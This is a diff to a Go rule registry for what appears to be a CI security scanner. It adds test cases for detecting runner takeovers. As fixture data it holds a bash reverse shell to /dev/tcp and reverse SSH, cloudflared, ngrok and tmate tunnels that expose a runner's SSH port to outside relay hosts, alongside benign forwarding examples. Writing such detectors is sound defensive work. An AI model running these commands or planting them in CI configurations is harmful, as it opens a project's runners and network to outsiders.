@@ -681,6 +681,18 @@ var registry = []Rule{
 		"it gives a machine outside a shell inside the project's network and runner", []Case{
 			{"x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, false},
 			{"x.sh", "nc -lvp 4444", 0, true},
+			// A runner's SSH port forwarded to a relay outside (the reverse
+			// tunnels of runner takeovers); forwarding a remote port to
+			// here, or a preview of a local web server, lets nobody in.
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 relay@r.x.invalid", 4, false},
+			{".builds/ci.yml", "tasks:\n  - debug: |\n      ssh -f -N -R 2222:localhost:22 relay@r.x.invalid", 3, false},
+			{"ci/debug.sh", "nohup cloudflared tunnel --url ssh://localhost:22 >/dev/null 2>&1 &", 0, false},
+			{"ci/debug.sh", "ngrok tcp 22 --log=stdout &", 0, false},
+			{"ci/debug.sh", "tmate -S /tmp/t.sock new-session -d && tmate -S /tmp/t.sock wait tmate-ready", 0, false},
+			{"ci/debug.sh", "ssh -p 443 -R0:localhost:22 a.pinggy.invalid", 0, false},
+			{"ci/db.sh", "ssh -fNL 5432:db.internal:5432 bastion.x.invalid", 0, true},
+			{"ci/preview.sh", "cloudflared tunnel --url http://localhost:8080", 0, true},
+			{"docs/notes.sh", "ssh -o ServerAliveInterval=60 deploy@x.invalid 'systemctl restart app'", 0, true},
 		}},
 	{"crypto-mining", KindExecute, High, "mines cryptocurrency",
 		"it spends the project's machines on someone else's mining", []Case{
